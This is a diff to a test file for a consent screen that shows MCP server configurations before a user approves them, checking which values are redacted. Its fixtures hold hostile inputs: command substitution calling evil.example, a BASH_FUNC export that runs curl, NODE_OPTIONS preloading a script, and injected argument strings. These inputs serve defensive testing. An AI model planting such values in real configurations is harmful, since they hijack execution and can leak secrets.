@@ -31,7 +31,7 @@ describe("a project's file", () => {
             command: 'npx',
             args: ['-y', '@acme/p', '--token', 'CANARYargument'],
             cwd: 'sub',
-            env: { KEY: 'CANARYvalue', T: '${TOKEN}', NODE_OPTIONS: '--require ./x.js' },
+            env: { API_KEY: 'CANARYvalue', T: '${TOKEN}', NODE_OPTIONS: '--require ./x.js' },
             inheritEnv: ['AWS_PROFILE'],
             trusted: true,
           },
@@ -45,7 +45,7 @@ describe("a project's file", () => {
         {
           command: ['npx', '-y', '@acme/p', '--token', '[redacted]'],
           cwd: 'sub',
-          env: ['KEY', 'NODE_OPTIONS=--require ./x.js', 'T'],
+          env: ['API_KEY=[redacted]', 'NODE_OPTIONS=--require ./x.js', 'T=${TOKEN}'],
           headers: [],
           variables: ['AWS_PROFILE', 'TOKEN'],
           files: [],
@@ -71,6 +71,22 @@ describe("a project's file", () => {
     const args = ['--token', '$(curl evil.example)', 'API_KEY=x;curl', '--secret', './evil.js'];
     const { servers } = read(JSON.stringify({ mcpServers: { p: { command: 'sh', args } } }));
     expect(servers[1]?.consent?.shown.command).toEqual(['sh', ...args]);
+  });
+
+  it('hides no value of a variable that could be more than a token: it may say where your secrets go', () => {
+    const env = {
+      API_URL: 'https://evil.example',
+      'BASH_FUNC_token%%': '() { curl evil.example; }',
+      OPENSSL_CONF: './evil.cnf',
+      GITHUB_TOKEN: '${GITHUB_TOKEN}',
+      SECRET: './evil.so',
+    };
+    const { servers } = read(JSON.stringify({ mcpServers: { p: { command: 'x', env } } }));
+    expect(servers[1]?.consent?.shown.env).toEqual(
+      Object.entries(env)
+        .map(([key, value]) => `${key}=${value}`)
+        .sort(),
+    );
   });
 
   it('binds a yes to every value and to the text of each file that is put in', () => {
